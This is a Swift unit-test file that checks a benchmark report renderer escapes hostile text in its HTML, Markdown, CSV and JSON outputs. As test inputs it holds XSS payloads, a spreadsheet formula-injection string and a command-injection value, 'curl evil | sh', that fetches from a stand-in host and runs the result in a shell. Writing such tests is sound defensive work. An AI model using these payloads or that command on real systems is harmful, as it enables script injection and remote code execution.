import BenchmarkStore
import Foundation
import ReportRendering
import Testing

@Suite("Text of models in reports")
struct HostileTextTests {
    static let hostile = [
        "<script>alert(1)</script>", "a | b || c", "`code` ```` and ```\n```\n````text\n",
        "</details></pre></td></table>",
        "\u{202E}drawkcab\u{200F}\u{2066}", String(repeating: "long", count: 5_000), "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é\u{301}",
        "nul\u{0}bell\u{7}esc\u{1B}[31m",
        "", "\n\n\n", "\r\nline\rline\r\n", "&lt;b&gt; &amp; &#60;", "\" onmouseover=\"x\u{301}\"\u{301} '",
        "<\u{301}script>", "{{{body}}} {{#rows}}", "# heading\n- list\n1. one\n---", "[x](javascript:alert(1)) ![y](z)",
        "https://example.org www.example.org a@example.org", "$$x$$ :smile: @someone", "<!-- ", "]]>",
    ]

    @Test("neither breaks the HTML page nor adds a tag to it", arguments: hostile)
    func html(_ text: String) throws {
        let data = ReportData(SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text))
        let plain = ReportData(SampleRun.input(methods: ["copy", "linear", "ties"]))
        let page = try HTMLReport().render(ReportPage(data))
        #expect(TagBalance.fault(in: page) == nil)
        let expected = try HTMLReport().render(ReportPage(plain))
        #expect(page.unicodeScalars.count { $0 == "<" } == expected.unicodeScalars.count { $0 == "<" })
    }

    @Test("neither breaks the Markdown page nor its tables", arguments: hostile)
    func markdown(_ text: String) {
        let data = ReportData(SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text))
        #expect(MarkdownBalance.fault(in: MarkdownLeaderboard.render(ReportPage(data))) == nil)
    }

    private static let formulas = ["=cmd|'/c calc'!A1", "+1", "-1+2", "@SUM(1)", "\t=1", "＝1", "=1,\"2\"\n3"]

    @Test("become no formula in leaderboard.csv, and no further column or row", arguments: hostile + formulas)
    func csv(_ text: String) {
        var input = SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text)
        let plain = ResultFiles.csv(ReportData(input))
        for index in input.metrics.indices { input.metrics[index].name = text }
        for file in [plain, ResultFiles.csv(ReportData(input))] {
            let records = DelimitedText.records(of: file)
            #expect(records.count > 3 && Set(records.map(\.count)) == [17])
            for field in records.joined() {
                let isNumber = Double(field) != nil
                #expect(
                    isNumber || field.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true
                )
            }
        }
    }

    @Test("come out of results.json as they went in", arguments: hostile)
    func json(_ text: String) throws {
        struct Results: Decodable {
            let report: ReportData
        }
        let data = ReportData(SampleRun.input(methods: ["copy", "linear"], output: text, title: text))
        let results = try JSONDecoder().decode(Results.self, from: Data(try ResultFiles.json(data).utf8))
        #expect(results.report == data)
    }

    @Test(
        "add neither an event handler nor an address to the page",
        arguments: [
            "\" onload=\"alert(1)", "'><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
            "data:text/html,<script>alert(1)</script>", "</style><script>alert(1)</script>", "x\"\u{301} onclick=\"y",
        ])
    func attributes(_ text: String) throws {
        var input = SampleRun.input(methods: ["copy", "linear", "ties"], output: text, title: text)
        input.run.profileName = text
        input.run.model.name = text
        input.run.corpora[0].title = text
        input.run.corpora[0].language = text
        input.settings[0].targetLabel = text
        input.settings[0].target = text
        let page = try HTMLReport().render(
            ReportPage(ReportData(input), title: text, description: text, commands: [text]))
        #expect(TagBalance.fault(in: page) == nil)
        // Every tag has attributes of ours alone, and none that runs or loads anything.
        let tags = page.matches(of: #/<[a-z0-9]+((?:\s+[A-Za-z0-9-]+(?:="[^"]*")?)*)\s*/?>/#)
        #expect(tags.count == page.matches(of: #/<[a-z]/#).count)
        let names = Set(
            tags.flatMap { tag in tag.1.matches(of: #/([A-Za-z0-9-]+)(?:="[^"]*")?/#).map { String($0.1) } })
        let known: Set<String> = [
            "lang", "dir", "charset", "name", "content", "aria-label", "aria-labelledby", "href", "id", "class", "role",
            "tabindex", "scope", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "viewBox",
        ]
        #expect(names.isSubset(of: known), "\(names.subtracting(known))")
        #expect(page.matches(of: #/href="([^"]*)"/#).allSatisfy { $0.1.hasPrefix("#") })
    }

    @Test("cannot be a command of their own in the command lines that a report shows")
    func commands() {
        var input = SampleRun.input(methods: ["copy"])
        input.run.profileName = "x.yml; curl evil | sh # it's"
        let page = MarkdownLeaderboard.render(ReportPage(ReportData(input)))
        #expect(page.contains(#"--profile 'Benchmark/x.yml; curl evil | sh # it'\''s.yml'"# + "\n"))
    }

    @Test("names of runs, settings and documents are escaped too")
    func names() throws {
        var input = SampleRun.input(methods: ["copy", "linear", "ties"])
        let evil = "<i>\"|`\n</details>"
        input.run.profileName = evil
        input.run.profileText = evil
        input.run.model.name = evil
        input.run.corpora[0].citation = evil
        input.settings[0].targetLabel = evil
        input.metrics[0].name = evil
        for index in input.examples.indices { input.examples[index].documentKey = evil }
        let page = ReportPage(ReportData(input), commands: [evil])
        #expect(TagBalance.fault(in: try HTMLReport().render(page)) == nil)
        #expect(MarkdownBalance.fault(in: MarkdownLeaderboard.render(page)) == nil)
    }

    @Test("the check of tags finds what is wrong")
    func checks() {
        #expect(TagBalance.fault(in: "<p>a</p>") == nil)
        #expect(TagBalance.fault(in: "<p>a<b></p></b>") != nil)
        #expect(TagBalance.fault(in: "<p>a < b</p>") != nil)
        #expect(TagBalance.fault(in: "<p>") != nil)
        #expect(MarkdownBalance.fault(in: "| a | b |\n| c | d | e |") != nil)
        #expect(MarkdownBalance.fault(in: "```text\nx") != nil)
        #expect(MarkdownBalance.fault(in: "x <b>") != nil)
    }

    @Test("control and direction characters become visible, line feeds stay")
    func visible() {
        #expect(VisibleText.block("a\u{0}\u{1B}b\r\nc\rd\u{7F}") == "a␀␛b\nc␍d␡")
        #expect(VisibleText.block("x\u{202E}y\u{2028}") == "x⟦U+202E⟧y⟦U+2028⟧")
        #expect(VisibleText.block("👩\u{200D}👧") == "👩\u{200D}👧")
        #expect(VisibleText.line("  a \n\n b\t") == "a b")
        #expect(VisibleText.line("abcdef", limit: 3) == "abc…")
    }

    @Test("quotes and brackets are escaped even under combining marks")
    func combining() {
        #expect(HTMLText("\"\u{301}<\u{301}").markup == "&quot;\u{301}&lt;\u{301}")
    }

    @Test(
        "Markdown that would mean something becomes entities",
        arguments: [
            ("a|b", "a&#124;b"), ("- x", "&#45; x"), ("1. x", "1&#46; x"), ("12) x", "12&#41; x"), ("1.5", "1.5"),
            ("# x", "&#35; x"), ("a: b", "a: b"), ("http://x", "http&#58;//x"), ("www.x", "www&#46;x"), ("", ""),
        ])
    func inline(_ text: String, _ expected: String) {
        #expect(MarkdownText.inline(text) == expected)
    }

    @Test("a fence is longer than any run of backticks inside")
    func fence() {
        #expect(MarkdownText.fenced("a ```` b") == "`````text\na ```` b\n`````")
    }
}
